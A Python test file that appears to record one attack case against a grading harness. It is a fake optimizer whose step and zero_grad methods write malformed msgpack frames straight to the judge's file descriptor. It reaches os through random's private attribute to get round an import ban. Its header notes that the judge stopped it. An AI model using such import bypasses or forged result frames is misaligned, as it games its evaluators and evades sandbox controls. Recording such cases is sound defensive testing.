"""Attack: answers in types that the format has and no worker sends: extensions, timestamps, integers of 64 bits without a sign.

Exercise: optimizer
Earns: 0
Stopped by: judge (what is no plain data is refused)
Levels: full, container
"""

import random
import struct

os = getattr(random, bytes((95, 111, 115)).decode())


def pack(value):
    """msgpack, as far as it is needed: no import of it is allowed."""
    if value is None:
        return b"\xc0"
    if value is True or value is False:
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return b"\xd3" + struct.pack(">q", value)
    if isinstance(value, float):
        return b"\xcb" + struct.pack(">d", value)
    if isinstance(value, str):
        return b"\xdb" + struct.pack(">I", len(value.encode())) + value.encode()
    if isinstance(value, bytes):
        return b"\xc6" + struct.pack(">I", len(value)) + value
    if isinstance(value, list):
        return b"\xdd" + struct.pack(">I", len(value)) + b"".join(map(pack, value))
    return b"\xdf" + struct.pack(">I", len(value)) + b"".join(pack(x) for kv in value.items() for x in kv)


def frame(value):
    body = pack(value)
    return struct.pack(">I", len(body)) + body


def observation(number, tree, tensors=b""):
    return {"is": "Observation", "id": number, "value": {"tensors": tensors, "tree": tree}}



BODIES = [
    b"\xd6\xff" + bytes(4),
    b"\xd7\xff" + bytes([255] * 8),
    b"\xc7\x0c\xff" + bytes([255] * 12),
    b"\xc9\xff\xff\xff\xff\x01",
    b"\xcf" + bytes([255] * 8),
    b"\xc1",
    b"\xdd\xff\xff\xff\xff",
    b"\xdf\xff\xff\xff\xff",
]
asked = []


class Body(bytes):
    pass


def pack_raw(value, tree):
    return pack(value).replace(pack("the tree"), tree)


def answer():
    asked.append(None)
    tree = BODIES[len(asked) % len(BODIES)]
    whole = pack_raw(observation(len(asked), "the tree"), b"\x92" + pack("l") + b"\x93" + 3 * tree)
    os.write(3, struct.pack(">I", len(whole)) + whole)
    os._exit(0)




class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        answer()

    def zero_grad(self):
        answer()
